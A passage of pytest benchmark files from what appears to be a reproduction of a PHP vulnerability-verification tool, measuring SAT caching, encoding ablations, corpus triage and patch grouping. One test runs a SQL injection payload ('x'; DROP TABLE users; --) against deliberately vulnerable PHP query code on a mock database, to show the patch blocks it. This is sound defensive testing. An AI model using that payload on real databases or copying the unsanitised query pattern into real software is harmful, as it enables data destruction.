def test_cold_vs_warm_sat_cache(benchmark, tmp_path):
    files = make_corpus()
    persist = tmp_path / "sat"

    nocache = sweep(files, sat_cache=None)

    cold_cache = SatQueryCache(persist_dir=persist)
    cold = sweep(files, sat_cache=cold_cache)

    # Fresh cache object over the same directory: the in-memory LRU is
    # empty, so every hit below is a disk replay — the cross-run story.
    warm_cache = SatQueryCache(persist_dir=persist)
    warm = benchmark.pedantic(
        lambda: sweep(files, sat_cache=warm_cache), rounds=1, iterations=1
    )

    print()
    print(
        f"SAT query cache — {len(files)} files, {LEVELS}-level lattice, "
        f"file-level cache disabled"
    )
    for label, result, cache in [
        ("nocache", nocache, None),
        ("cold", cold, cold_cache),
        ("warm", warm, warm_cache),
    ]:
        stats = result.stats
        probes = f"{cache.hits} hits / {cache.misses} misses" if cache else "-"
        print(f"{label:8s} {stats.wall_seconds:6.2f}s  sat-cache: {probes}")
    # Guarded: the smoke corpus is small enough that a coarse clock can
    # report the warm sweep as 0.00s.
    warm_seconds = warm.stats.wall_seconds
    ratio = cold.stats.wall_seconds / warm_seconds if warm_seconds else float("inf")
    print(f"cold/warm speedup: {ratio:.2f}x")

    # Verdict parity: the cache must be invisible in the results.
    for other in (cold, warm):
        assert [o.safe for o in other.outcomes] == [o.safe for o in nocache.outcomes]
        assert [o.summary for o in other.outcomes] == [
            o.summary for o in nocache.outcomes
        ]

    # The repeated shapes hit within the cold run; the warm run is pure
    # replay (this corpus has no budget-exhausted queries to re-solve).
    assert cold_cache.hits > 0, "in-run repeated shapes must share queries"
    assert warm_cache.hits > 0 and warm_cache.misses == 0
    warm_solver = [o.solver for o in warm.outcomes]
    assert sum(s.get("cache_hits", 0) for s in warm_solver) > 0
    assert sum(s.get("cache_misses", 0) for s in warm_solver) == 0
    # Fully-warm replay must answer every query without materializing
    # the backend solver at all — zero decisions, not just zero misses.
    assert sum(s.get("decisions", 0) for s in warm_solver) == 0, (
        "warm replay ran the backend solver"
    )

    if not SMOKE:
        # Acceptance contract: warm replay ≥ 2× faster than cold solve.
        assert ratio >= 2.0, f"warm speedup {ratio:.2f}x below the 2x contract"
        record_trajectory(
            {
                "bench": "sat_cache",
                "files": len(files),
                "lattice_levels": LEVELS,
                "nocache_seconds": round(nocache.stats.wall_seconds, 4),
                "cold_seconds": round(cold.stats.wall_seconds, 4),
                "warm_seconds": round(warm.stats.wall_seconds, 4),
                "cold_warm_speedup": round(ratio, 3),
                "warm_hits": warm_cache.hits,
            }
        )


@pytest.mark.benchmark(group="sat-incremental")
def test_incremental_and_portfolio_sat(benchmark, tmp_path):
    """ISSUE 8 contract: incremental enumeration + cross-query lemma
    sharing make the *cold* sweep ≥ 1.5× faster than the pre-incremental
    baseline (measured in-process via the ``sat_incremental=False``
    ablation), with byte-identical verdicts; the portfolio backend
    agrees on every verdict too.  A trajectory point with
    ``assertions_per_second`` for all four sweeps lands in
    ``BENCH_sat_cache.json`` (or ``$REPRO_BENCH_OUT`` in smoke mode, so
    CI can archive the numbers without touching the tracked file).
    """
    files = make_corpus()
    persist = tmp_path / "sat-inc"

    # Pre-incremental baseline: per-solve backtrack-to-root, linear
    # VSIDS scan, no lemma exchange — the seed solver's cold behaviour.
    baseline = sweep(files, SatQueryCache(), incremental=False)

    # The headline configuration: incremental CDCL + clause import over
    # a cold persistent cache.
    cold_cache = SatQueryCache(persist_dir=persist)
    cold = benchmark.pedantic(
        lambda: sweep(files, sat_cache=cold_cache), rounds=1, iterations=1
    )

    # Warm replay over the persisted directory (backend never runs).
    warm_cache = SatQueryCache(persist_dir=persist)
    warm = sweep(files, sat_cache=warm_cache)

    # Portfolio racing, same corpus, fresh cache.
    portfolio = sweep(files, SatQueryCache(), solver="portfolio")

    sweeps = [
        ("baseline", baseline),
        ("incremental", cold),
        ("warm", warm),
        ("portfolio", portfolio),
    ]
    print()
    print(
        f"SAT incremental/portfolio — {len(files)} files, "
        f"{LEVELS}-level lattice, file-level cache disabled"
    )
    for label, result in sweeps:
        print(
            f"{label:12s} {result.stats.wall_seconds:6.2f}s  "
            f"{assertions_per_second(result):8.1f} assertions/s"
        )

    # Verdict parity: incremental machinery and racing are invisible in
    # the results.
    for label, result in sweeps[1:]:
        assert [o.safe for o in result.outcomes] == [
            o.safe for o in baseline.outcomes
        ], f"{label} sweep changed a verdict"
        assert [o.summary for o in result.outcomes] == [
            o.summary for o in baseline.outcomes
        ], f"{label} sweep changed a summary"

    base_seconds = baseline.stats.wall_seconds
    cold_seconds = cold.stats.wall_seconds
    speedup = base_seconds / cold_seconds if cold_seconds else float("inf")
    print(f"incremental cold speedup vs baseline: {speedup:.2f}x")

    point = {
        "bench": "sat_incremental",
        "files": len(files),
        "lattice_levels": LEVELS,
        "baseline_seconds": round(base_seconds, 4),
        "incremental_seconds": round(cold_seconds, 4),
        "incremental_speedup": round(speedup, 3),
        "assertions_per_second": {
            "cold": assertions_per_second(baseline),
            "warm": assertions_per_second(warm),
            "incremental": assertions_per_second(cold),
            "portfolio": assertions_per_second(portfolio),
        },
    }
    out = os.environ.get("REPRO_BENCH_OUT")
    if out:
        Path(out).write_text(json.dumps(point, indent=2, sort_keys=True) + "\n")
    if not SMOKE:
        # Acceptance contract (ISSUE 8): ≥ 1.5× over the seed cold run.
        assert speedup >= 1.5, (
            f"incremental cold speedup {speedup:.2f}x below the 1.5x contract"
        )
        record_trajectory(point)
