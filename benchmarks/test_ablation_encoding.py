"""ABL-ENC — encoding ablation: xBMC0.1 (location variable) vs xBMC1.0
(single-assignment renaming), plus the assertion-accumulation policy.

The paper reports that the location encoding caused "frequent system
breakdowns, primarily due to inefficiently encoding each assignment
using 2|X| variables" and that switching to Clarke et al.'s variable
renaming fixed it (§3.3.1–§3.3.2).  Expected shape: formula size and
solve time grow much faster with program size for xBMC0.1.

A second ablation exercises the per-assertion constraint accumulation
policy (§3.3.2's "C(c,g) := C(c,g) ∧ C(assert_i, g)"): the literal
"always" reading silences downstream assertions once one is violated,
which is why the checker defaults to accumulating only verified-safe
assertions (see repro/bmc/checker.py).
"""

from __future__ import annotations

import time

import pytest

from repro.ai import rename, translate_filter_result
from repro.bmc import check_program
from repro.bmc.location_encoder import LocationBMC
from repro.ir import filter_source


def chain_program(length: int) -> str:
    """A taint chain of `length` copies ending in one sink per variable."""
    lines = ["$v0 = $_GET['q'];"]
    for i in range(1, length):
        lines.append(f"$v{i} = $v{i - 1};")
    lines.append(f"echo $v{length - 1};")
    return "<?php " + "\n".join(lines)


def branchy_program(branches: int) -> str:
    lines = ["$x = '';"]
    for i in range(branches):
        lines.append(f"if ($c{i}) {{ $x = $x . $_GET['p{i}']; }}")
    lines.append("echo $x;")
    return "<?php " + "\n".join(lines)


def measure(source: str) -> dict:
    ai = translate_filter_result(filter_source(source))
    t0 = time.perf_counter()
    renaming_result = check_program(rename(ai))
    t1 = time.perf_counter()
    location_result = LocationBMC(ai).run()
    t2 = time.perf_counter()
    assert {r.assert_id: not r.safe for r in renaming_result.assertions} == (
        location_result.verdicts
    )
    return {
        "renaming_vars": renaming_result.num_vars,
        "renaming_clauses": renaming_result.num_clauses,
        "renaming_seconds": t1 - t0,
        "location_vars": location_result.num_vars,
        "location_clauses": location_result.num_clauses,
        "location_seconds": t2 - t1,
    }


@pytest.mark.benchmark(group="ablation-encoding")
def test_encoding_size_sweep(benchmark):
    sizes = [2, 4, 8, 12, 16]

    def sweep():
        return {n: measure(chain_program(n)) for n in sizes}

    results = benchmark.pedantic(sweep, rounds=1, iterations=1)

    print()
    print("Encoding ablation — copy chains (xBMC1.0 renaming vs xBMC0.1 location)")
    print(f"{'n':>4s} {'ren vars':>9s} {'ren cls':>9s} {'loc vars':>9s} {'loc cls':>9s} {'cls ratio':>10s}")
    for n in sizes:
        r = results[n]
        ratio = r["location_clauses"] / max(r["renaming_clauses"], 1)
        print(
            f"{n:4d} {r['renaming_vars']:9d} {r['renaming_clauses']:9d} "
            f"{r['location_vars']:9d} {r['location_clauses']:9d} {ratio:10.1f}"
        )

    # Shape: the location encoding is consistently (and increasingly)
    # larger — the 2|X|-per-step cost.
    for n in sizes:
        assert results[n]["location_clauses"] > results[n]["renaming_clauses"]
    small_ratio = results[sizes[0]]["location_clauses"] / results[sizes[0]]["renaming_clauses"]
    large_ratio = results[sizes[-1]]["location_clauses"] / results[sizes[-1]]["renaming_clauses"]
    assert large_ratio > small_ratio  # super-linear divergence


@pytest.mark.benchmark(group="ablation-encoding")
def test_encoding_time_on_branchy_program(benchmark):
    source = branchy_program(5)
    ai = translate_filter_result(filter_source(source))

    renamed = rename(ai)
    renaming_time = benchmark.pedantic(
        lambda: check_program(renamed), rounds=3, iterations=1
    )
    t0 = time.perf_counter()
    location = LocationBMC(ai).run()
    location_seconds = time.perf_counter() - t0
    print()
    print(f"branchy(5): location encoding {location_seconds * 1000:.1f} ms, "
          f"{location.num_clauses} clauses")
    assert location.verdicts[1] is True


@pytest.mark.benchmark(group="ablation-accumulate")
def test_accumulation_policy_ablation(benchmark):
    """The literal reading of §3.3.2 degenerates on Figure-7-shaped code."""
    source = (
        "<?php $sid = $_GET['sid'];"
        + "".join(f"$q{i} = 'S' . $sid; DoSQL($q{i});" for i in range(8))
    )
    renamed = rename(translate_filter_result(filter_source(source)))

    def run_policies():
        return {
            policy: check_program(renamed, accumulate=policy)
            for policy in ("never", "safe-only", "always")
        }

    results = benchmark.pedantic(run_policies, rounds=1, iterations=1)
    violated = {policy: len(result.violated) for policy, result in results.items()}
    print()
    print("Accumulation policy ablation (8 tainted sinks, one root):")
    for policy, count in violated.items():
        print(f"  accumulate={policy:10s} -> {count} violated assertions detected")
    assert violated["never"] == 8
    assert violated["safe-only"] == 8
    assert violated["always"] == 1  # everything after the first is silenced
