"""CORPUS — the §5 whole-corpus aggregates.

The paper's sample: 230 projects, 11,848 files, 1,140,091 statements;
515 files in 69 projects were identified as vulnerable; 38 developers
acknowledged.  The synthetic corpus reproduces the *population
structure* exactly (project counts, vulnerable-project count) and the
physical size proportionally at a configurable scale (set
``REPRO_CORPUS_SCALE=1.0`` in the environment to generate at full
size — analysis of the full corpus is then hours, not seconds).

The TS pipeline — the one the paper used for the corpus-wide triage —
is run over every generated project to check that vulnerable projects
are exactly the seeded ones.
"""

from __future__ import annotations

import os

import pytest

from repro import WebSSARI
from repro.corpus import CORPUS_AGGREGATES, corpus_statistics, generate_corpus
from repro.ir import filter_program
from repro.php.includes import resolve_includes
from repro.php.parser import parse
from repro.typestate import analyze_commands

SCALE = float(os.environ.get("REPRO_CORPUS_SCALE", "0.004"))


def build_corpus():
    projects = generate_corpus(scale=SCALE, seed=2004)
    stats = corpus_statistics(projects)
    return projects, stats


def triage_with_ts(projects):
    """The corpus-wide TS pass: which projects/files are vulnerable?"""
    vulnerable_projects = 0
    vulnerable_files = 0
    total_violations = 0
    for generated in projects:
        project_vulnerable_files = set()
        for path in generated.project.paths():
            resolution = resolve_includes(generated.project, path)
            filtered = filter_program(resolution.program)
            report = analyze_commands(filtered)
            if report.violations:
                project_vulnerable_files.add(path)
            total_violations += report.num_violations
        if project_vulnerable_files:
            vulnerable_projects += 1
        vulnerable_files += len(project_vulnerable_files)
    return {
        "vulnerable_projects": vulnerable_projects,
        "vulnerable_files": vulnerable_files,
        "total_violations": total_violations,
    }


@pytest.mark.benchmark(group="corpus")
def test_corpus_structure(benchmark):
    projects, stats = benchmark.pedantic(build_corpus, rounds=1, iterations=1)

    print()
    print(f"Corpus aggregates (generation scale = {SCALE}):")
    print(f"{'metric':28s} {'paper':>12s} {'generated':>12s}")
    mapping = [
        ("projects", "num_projects", "num_projects"),
        ("files", "num_files", "num_files"),
        ("statements", "num_statements", "num_statements"),
        ("vulnerable projects", "num_vulnerable_projects", "num_vulnerable_projects"),
        ("vulnerable files", "num_vulnerable_files", "num_vulnerable_files"),
    ]
    for label, paper_key, gen_key in mapping:
        print(f"{label:28s} {CORPUS_AGGREGATES[paper_key]:12,d} {stats[gen_key]:12,d}")

    assert stats["num_projects"] == 230
    assert stats["num_vulnerable_projects"] == 69
    # Physical size scales with the configured factor (loose bounds: the
    # log-normal size draw is noisy at small scales).
    expected_statements = CORPUS_AGGREGATES["num_statements"] * SCALE
    assert 0.3 * expected_statements <= stats["num_statements"] <= 3.0 * expected_statements


@pytest.mark.benchmark(group="corpus")
def test_corpus_ts_triage(benchmark):
    projects, stats = build_corpus()
    triage = benchmark.pedantic(triage_with_ts, args=(projects,), rounds=1, iterations=1)

    print()
    print("TS triage over the generated corpus:")
    print(f"  vulnerable projects: {triage['vulnerable_projects']} (paper: 69)")
    print(f"  vulnerable files:    {triage['vulnerable_files']}")
    print(f"  TS violations:       {triage['total_violations']}")

    assert triage["vulnerable_projects"] == 69
    assert triage["vulnerable_files"] == stats["num_vulnerable_files"]
    assert triage["total_violations"] == stats["seeded_ts_errors"]


@pytest.mark.benchmark(group="corpus")
def test_acknowledged_projects_bmc_deep_scan(benchmark):
    """Run the full BMC pipeline over the 38 catalog stand-ins only (as
    the paper did for the acknowledged projects)."""
    from repro.corpus import FIGURE_10
    from repro.corpus.generator import generate_catalog_project

    def deep_scan():
        websari = WebSSARI()
        totals = {"ts": 0, "bmc": 0}
        for entry in FIGURE_10:
            report = websari.verify_project(generate_catalog_project(entry).project)
            totals["ts"] += report.ts_error_count
            totals["bmc"] += report.bmc_group_count
        return totals

    totals = benchmark.pedantic(deep_scan, rounds=1, iterations=1)
    print()
    print(f"deep scan totals: TS={totals['ts']}, BMC groups={totals['bmc']}")
    assert totals["bmc"] == 578
