"""ABL-ENUM — counterexample blocking strategy ablation.

The paper blocks each counterexample by negating the values of *all*
nondeterministic variables BN (§3.3.2).  When the program contains
branches the violation never consults, every semantically distinct path
is then re-enumerated once per assignment of those irrelevant variables
— an exponential multiplier.  The default checker negates only the
*deciding* literals of the trace's backward slice (see DESIGN.md §5b).

Shape expected: with k irrelevant branches, "all-bn" produces 2^k
duplicates per real path while "deciding" stays at the true path count;
both find the same set of distinct paths.
"""

from __future__ import annotations

import time

import pytest

from repro.ai import rename, translate_filter_result
from repro.bmc import check_program
from repro.ir import filter_source


def program_with_irrelevant_branches(irrelevant: int) -> str:
    """One real taint path plus `irrelevant` branches the sink ignores."""
    lines = ["$x = $_GET['q'];"]
    for i in range(irrelevant):
        lines.append(f"if ($c{i}) {{ $noise{i} = {i}; }}")
    lines.append("echo $x;")
    return "<?php " + "\n".join(lines)


def renamed_of(source):
    return rename(translate_filter_result(filter_source(source)))


@pytest.mark.benchmark(group="ablation-enumeration")
def test_blocking_strategy_sweep(benchmark):
    sizes = [0, 2, 4, 6, 8]

    def sweep():
        rows = {}
        for k in sizes:
            renamed = renamed_of(program_with_irrelevant_branches(k))
            t0 = time.perf_counter()
            deciding = check_program(renamed, blocking="deciding", max_counterexamples=4096)
            t1 = time.perf_counter()
            all_bn = check_program(renamed, blocking="all-bn", max_counterexamples=4096)
            t2 = time.perf_counter()
            rows[k] = {
                "deciding": len(deciding.violated[0].counterexamples),
                "all_bn": len(all_bn.violated[0].counterexamples),
                "deciding_seconds": t1 - t0,
                "all_bn_seconds": t2 - t1,
            }
        return rows

    rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
    print()
    print("blocking strategy: counterexamples per violated assertion")
    print(f"{'irrelevant':>10s} {'deciding':>9s} {'all-BN':>9s} {'all-BN ms':>10s}")
    for k in sizes:
        row = rows[k]
        print(
            f"{k:10d} {row['deciding']:9d} {row['all_bn']:9d} "
            f"{row['all_bn_seconds'] * 1000:10.1f}"
        )

    for k in sizes:
        assert rows[k]["deciding"] == 1  # one real path
        assert rows[k]["all_bn"] == 2**k  # 2^k duplicates of it


@pytest.mark.benchmark(group="ablation-enumeration")
def test_strategies_find_same_distinct_paths(benchmark):
    """On a program with genuinely distinct violating paths, both
    strategies enumerate the same deciding-slice set."""
    source = (
        "<?php "
        "if ($a) { $x = $_GET['p']; } else { $x = $_POST['q']; }"
        "if ($noise) { $n = 1; }"
        "echo $x;"
    )
    renamed = renamed_of(source)

    def run_both():
        return (
            check_program(renamed, blocking="deciding", max_counterexamples=4096),
            check_program(renamed, blocking="all-bn", max_counterexamples=4096),
        )

    deciding, all_bn = benchmark.pedantic(run_both, rounds=1, iterations=1)

    def slices(result):
        return {
            tuple(sorted(t.deciding_branches.items()))
            for t in result.violated[0].counterexamples
        }

    assert slices(deciding) == slices(all_bn)
    assert len(deciding.violated[0].counterexamples) == 2
    assert len(all_bn.violated[0].counterexamples) == 4  # x2 for the noise branch
    print()
    print("same distinct slices; all-BN enumerated each twice (noise branch)")
