"""FIG7 — root-cause grouping on the PHP Surveyor example.

Figure 7 shows one tainted variable ($sid) making three statements
vulnerable; the paper notes that in the full PHP Surveyor source the
same variable was "the root cause of 16 vulnerable program locations;
our TS algorithm made 16 instrumentations, whereas a single
instrumentation would have been sufficient".

This bench checks both shapes: the 3-sink figure and a 16-site variant,
asserting TS = N instrumentations vs BMC = 1, and that the single BMC
patch actually secures the code (re-verification + runtime check).
"""

from __future__ import annotations

import pytest

from repro import WebSSARI
from repro.interp import HttpRequest, MockDatabase, run_php

FIGURE7_SOURCE = """<?php
$sid = $_GET['sid']; if (!$sid) {$sid = $_POST['sid'];}
$iq = "SELECT * FROM groups WHERE sid=$sid"; DoSQL($iq);
$i2q = "SELECT * FROM ans WHERE sid=$sid"; DoSQL($i2q);
$fnq = "SELECT * FROM questions, surveys WHERE questions.sid='$sid'"; DoSQL($fnq);
"""


def sixteen_site_variant() -> str:
    lines = ["<?php", "$sid = $_GET['sid']; if (!$sid) {$sid = $_POST['sid'];}"]
    for i in range(16):
        # Quoted context, as in Figure 7's line 4 (questions.sid='$sid').
        lines.append(f"$q{i} = \"SELECT * FROM t{i} WHERE sid='$sid'\"; DoSQL($q{i});")
    return "\n".join(lines) + "\n"


@pytest.mark.benchmark(group="figure7")
def test_figure7_three_sites(benchmark):
    websari = WebSSARI()
    report = benchmark(lambda: websari.verify_source(FIGURE7_SOURCE))
    print()
    print(f"Figure 7 (3 sinks): TS={report.ts_error_count}, BMC groups={report.bmc_group_count}")
    assert report.ts_error_count == 3
    assert report.bmc_group_count == 1
    assert report.grouping.fixing_set == {"sid"}


@pytest.mark.benchmark(group="figure7")
def test_figure7_sixteen_sites(benchmark):
    websari = WebSSARI()
    source = sixteen_site_variant()
    report = benchmark(lambda: websari.verify_source(source))
    print()
    print(
        f"PHP Surveyor 16-site variant: TS={report.ts_error_count} instrumentations, "
        f"BMC={report.bmc_group_count} (paper: 16 vs 1)"
    )
    assert report.ts_error_count == 16
    assert report.bmc_group_count == 1


@pytest.mark.benchmark(group="figure7")
def test_figure7_patch_effectiveness(benchmark):
    websari = WebSSARI()
    source = sixteen_site_variant()

    def patch_and_reverify():
        _, patched = websari.patch_source(source, strategy="bmc")
        return patched, websari.verify_source(patched.source)

    patched, re_report = benchmark.pedantic(patch_and_reverify, rounds=1, iterations=1)
    assert patched.num_guards == 1  # single instrumentation suffices
    assert re_report.safe

    # Runtime check: the quote-breakout DROP TABLE no longer executes.
    attack = HttpRequest(get={"sid": "x'; DROP TABLE users; --"})

    def fresh_db():
        db = MockDatabase()
        db.create_table("users", [{"u": 1}])
        for table in [f"t{i}" for i in range(16)] + ["groups", "ans"]:
            db.create_table(table, [])
        return db

    unpatched_db = fresh_db()
    run_php(source, request=attack, database=unpatched_db)
    assert "users" in unpatched_db.dropped_tables  # attack works unpatched

    patched_db = fresh_db()
    run_php(patched.source, request=attack, database=patched_db)
    assert patched_db.dropped_tables == []
    print()
    print("BMC patch: 1 guard secures all 16 sites; injection blocked at runtime")
