"""ABL-SAT — the SAT backend: CDCL (the ZChaff-style solver) vs plain DPLL.

The paper credits ZChaff's "many optimization techniques" for the BMC's
practicality.  This ablation measures the gap between the CDCL solver
(watched literals, VSIDS, 1-UIP learning, restarts) and the 1962-style
DPLL baseline on: pigeonhole formulas (hard UNSAT), random 3-SAT near
the phase transition, and formulas produced by the BMC encoder itself.
"""

from __future__ import annotations

import random
import time

import pytest

from repro.ai import rename, translate_filter_result
from repro.bmc.encoder import ConstraintGenerator, LatticeEncoding
from repro.ir import filter_source
from repro.lattice import two_point_lattice
from repro.sat import CNF, CDCLSolver, DPLLSolver


def pigeonhole(holes: int) -> CNF:
    pigeons = holes + 1

    def var(p: int, h: int) -> int:
        return p * holes + h + 1

    cnf = CNF()
    for p in range(pigeons):
        cnf.add_clause([var(p, h) for h in range(holes)])
    for h in range(holes):
        for p1 in range(pigeons):
            for p2 in range(p1 + 1, pigeons):
                cnf.add_clause((-var(p1, h), -var(p2, h)))
    return cnf


def random_3sat(num_vars: int, ratio: float, rng: random.Random) -> CNF:
    cnf = CNF()
    for _ in range(int(num_vars * ratio)):
        clause = [
            v * rng.choice((1, -1))
            for v in rng.sample(range(1, num_vars + 1), 3)
        ]
        cnf.add_clause(clause)
    cnf.extend_vars(num_vars)
    return cnf


def bmc_formula() -> CNF:
    source = (
        "<?php $x = '';"
        + "".join(f"if ($c{i}) {{ $x = $x . $_GET['p{i}']; }}" for i in range(8))
        + "echo $x;"
    )
    renamed = rename(translate_filter_result(filter_source(source)))
    generator = ConstraintGenerator(renamed, LatticeEncoding(two_point_lattice()))
    encoded = generator.encode_all()
    generator.add_expr(encoded[0].violation)
    return generator.cnf


@pytest.mark.benchmark(group="ablation-sat")
def test_cdcl_on_pigeonhole(benchmark):
    cnf = pigeonhole(6)
    result = benchmark(lambda: CDCLSolver(cnf).solve())
    assert result.satisfiable is False
    print()
    print(
        f"CDCL on PHP(7,6): {result.stats.conflicts} conflicts, "
        f"{result.stats.learned_clauses} learned, {result.stats.restarts} restarts"
    )


@pytest.mark.benchmark(group="ablation-sat")
def test_dpll_vs_cdcl_gap(benchmark):
    """DPLL hits its decision budget on instances CDCL solves quickly."""
    cnf = pigeonhole(5)

    cdcl = benchmark(lambda: CDCLSolver(cnf).solve())
    assert cdcl.satisfiable is False

    t0 = time.perf_counter()
    dpll = DPLLSolver(cnf).solve()
    dpll_seconds = time.perf_counter() - t0
    assert dpll.satisfiable is False
    print()
    print(
        f"PHP(6,5): CDCL {cdcl.stats.decisions} decisions; "
        f"DPLL {dpll.stats.decisions} decisions in {dpll_seconds * 1000:.0f} ms"
    )
    assert cdcl.stats.decisions < dpll.stats.decisions


@pytest.mark.benchmark(group="ablation-sat")
def test_random_3sat_phase_transition(benchmark):
    rng = random.Random(11)
    instances = [random_3sat(40, 4.26, random.Random(s)) for s in range(10)]

    def solve_all():
        return [CDCLSolver(cnf).solve() for cnf in instances]

    results = benchmark.pedantic(solve_all, rounds=1, iterations=1)
    sat = sum(1 for r in results if r.satisfiable)
    print()
    print(f"random 3-SAT n=40 r=4.26: {sat}/10 satisfiable (phase transition mix)")
    assert all(r.satisfiable is not None for r in results)
    for cnf, r in zip(instances, results):
        if r.satisfiable:
            assert cnf.evaluate(r.model)


@pytest.mark.benchmark(group="ablation-sat")
def test_bmc_derived_formula(benchmark):
    cnf = bmc_formula()
    result = benchmark(lambda: CDCLSolver(cnf).solve())
    assert result.satisfiable is True  # the violation is reachable
    print()
    print(f"BMC-derived formula: {cnf.num_vars} vars, {cnf.num_clauses} clauses")


@pytest.mark.benchmark(group="ablation-sat")
def test_incremental_enumeration_throughput(benchmark):
    """The BMC counterexample loop's solver usage pattern: repeated solves
    under assumptions with growing blocking clauses."""
    cnf = CNF([(i, i + 1) for i in range(1, 12, 2)])

    def enumerate_models():
        solver = CDCLSolver(cnf)
        count = 0
        while True:
            result = solver.solve()
            if not result.satisfiable:
                break
            count += 1
            solver.add_clause(
                [-(v if value else -v) for v, value in result.model.items()]
            )
        return count

    count = benchmark.pedantic(enumerate_models, rounds=1, iterations=1)
    print()
    print(f"enumerated {count} models of 6 independent binary clauses")
    assert count == 3**6  # each (a ∨ b) has 3 satisfying pairs
