"""ABL-MIS — greedy set-cover heuristic vs exact minimum intersecting set.

The paper proves MINIMUM-INTERSECTING-SET NP-complete (§3.3.4, via
VERTEX-COVER) and adopts Chvátal's greedy heuristic with its 1+ln|S|
approximation ratio.  This ablation measures, on random instances and on
vertex-cover reductions, (a) how close greedy gets to optimal in
practice and (b) the running-time gap that justifies the heuristic.
"""

from __future__ import annotations

import math
import random
import time

import pytest

from repro.analysis import (
    exact_minimum_intersecting_set,
    greedy_minimum_intersecting_set,
    is_intersecting_set,
    vertex_cover_instance,
)


def random_instance(rng: random.Random, num_elements: int, num_sets: int):
    return [
        frozenset(
            rng.sample(range(num_elements), rng.randint(1, min(4, num_elements)))
        )
        for _ in range(num_sets)
    ]


def random_graph_edges(rng: random.Random, vertices: int, edges: int):
    out = set()
    while len(out) < edges:
        u, v = rng.sample(range(vertices), 2)
        out.add((min(u, v), max(u, v)))
    return sorted(out)


@pytest.mark.benchmark(group="ablation-mis")
def test_greedy_quality_on_random_instances(benchmark):
    rng = random.Random(42)
    instances = [random_instance(rng, 12, 18) for _ in range(40)]

    def run_greedy():
        return [greedy_minimum_intersecting_set(inst) for inst in instances]

    greedy_results = benchmark(run_greedy)

    ratios = []
    for instance, greedy in zip(instances, greedy_results):
        exact = exact_minimum_intersecting_set(instance)
        assert is_intersecting_set(instance, greedy)
        ratios.append(len(greedy) / max(len(exact), 1))
    worst = max(ratios)
    mean = sum(ratios) / len(ratios)
    bound = 1 + math.log(18)
    print()
    print(f"greedy/optimal ratio over 40 random instances: mean {mean:.3f}, worst {worst:.3f}")
    print(f"Chvátal bound for |S|=18: {bound:.2f}")
    assert worst <= bound
    assert mean <= 1.35  # in practice greedy is near-optimal on these


@pytest.mark.benchmark(group="ablation-mis")
def test_greedy_vs_exact_time(benchmark):
    rng = random.Random(7)
    instance = [
        frozenset(rng.sample(range(22), rng.randint(2, 4))) for _ in range(40)
    ]

    greedy = benchmark(lambda: greedy_minimum_intersecting_set(instance))

    t0 = time.perf_counter()
    exact = exact_minimum_intersecting_set(instance)
    exact_seconds = time.perf_counter() - t0
    print()
    print(
        f"greedy |M|={len(greedy)}, exact |M|={len(exact)}, "
        f"exact took {exact_seconds * 1000:.1f} ms"
    )
    assert len(exact) <= len(greedy)


@pytest.mark.benchmark(group="ablation-mis")
def test_vertex_cover_reduction_sweep(benchmark):
    """Greedy on vertex-cover instances — the NP-completeness reduction."""
    rng = random.Random(3)
    graphs = [random_graph_edges(rng, 14, 24) for _ in range(10)]
    instances = [vertex_cover_instance(edges) for edges in graphs]

    def run():
        return [greedy_minimum_intersecting_set(inst) for inst in instances]

    covers = benchmark(run)
    for edges, cover in zip(graphs, covers):
        # A valid vertex cover touches every edge.
        assert all(u in cover or v in cover for u, v in edges)
    optima = [len(exact_minimum_intersecting_set(inst)) for inst in instances]
    print()
    print("vertex-cover sizes (greedy vs optimal):")
    print("  " + ", ".join(f"{len(c)}/{o}" for c, o in zip(covers, optima)))
    # Greedy never worse than 2x on vertex cover here.
    assert all(len(c) <= 2 * o for c, o in zip(covers, optima))
