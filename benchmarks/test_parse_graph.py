"""PARSE-GRAPH — closure-scoped keys, parse-cache reuse, slice shipping.

The corpus is the shape the include graph was built for: ``N`` small
entry files all splicing one fat shared prelude (plus one standalone
leaf that never touches it).  Four contracts, from ISSUE 9:

* **invalidation** — with a persistent result cache, a second
  cold-process audit after touching one leaf entry re-verifies exactly
  that entry; editing the shared prelude re-verifies every includer.
* **parse reuse** — a warm persistent parse cache makes the summed
  ``parse`` stage ≥ 2× faster than running with the cache off (the
  prelude parses once per content hash instead of once per entry).
* **slice shipping** — with ``jobs=2``, the bytes actually written to
  worker pipes (closure slices + per-worker dedup) beat the historical
  whole-project-per-task volume by ≥ 5×.
* **parity** — verdicts and summaries are identical across closure
  keying on/off × parse cache on/off.

A trajectory point is appended to ``BENCH_parse_graph.json`` at the
repo root.  Smoke mode (``REPRO_BENCH_SMOKE=1``, used by CI) shrinks
the corpus and drops the timing assertion — queue jitter on shared
runners makes small absolute times meaningless — but keeps the
invalidation, shipping, and parity contracts; the point then goes to
``$REPRO_BENCH_OUT`` instead of the tracked file.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from repro import WebSSARI
from repro.engine import AuditEngine, AuditTask, EngineConfig, ResultCache
from repro.php import SourceProject, scan_includes
from repro.php.parsecache import ParseCache

SMOKE = os.environ.get("REPRO_BENCH_SMOKE") == "1"

#: Entry files splicing the shared prelude.  The shipping ratio is
#: roughly n_tasks / workers (the prelude dominates both sides), so the
#: corpus stays large enough for the 5x contract even in smoke mode.
N_ENTRIES = 10 if SMOKE else 16
#: Statements in the shared prelude — fat enough that parsing it
#: dominates the parse stage when repeated once per entry.
PRELUDE_STATEMENTS = 60 if SMOKE else 400


def make_corpus() -> dict[str, str]:
    prelude = ["<?php"]
    for i in range(PRELUDE_STATEMENTS):
        prelude.append(f"$p{i} = 'prelude value {i}';")
    prelude.append("$shared = $_GET['q'];")
    files = {"common.php": "\n".join(prelude) + "\n"}
    for i in range(N_ENTRIES):
        # Alternate verdicts: even entries echo the tainted prelude
        # variable (vulnerable), odd ones a constant (safe).
        sink = "$shared" if i % 2 == 0 else f"'entry {i}'"
        files[f"entry{i}.php"] = f"<?php include 'common.php'; echo {sink};\n"
    files["leaf.php"] = "<?php echo 'standalone leaf';\n"
    return files


def make_tasks(files: dict[str, str], *, closure_keys: bool = True) -> list[AuditTask]:
    """Build project tasks the way the pipeline's scheduler does."""
    project = SourceProject(files)
    entries = sorted(files)
    tasks = []
    for i, entry in enumerate(entries):
        if closure_keys:
            scan = scan_includes(project, entry)
            assert not scan.widened, "bench corpus must stay statically bounded"
            slice_files = {p: files[p] for p in sorted(scan.closure)}
        else:
            slice_files = dict(files)
        tasks.append(
            AuditTask(index=i, filename=entry, project_files=slice_files, entry=entry)
        )
    return tasks


def sweep(
    files: dict[str, str],
    *,
    jobs: int = 1,
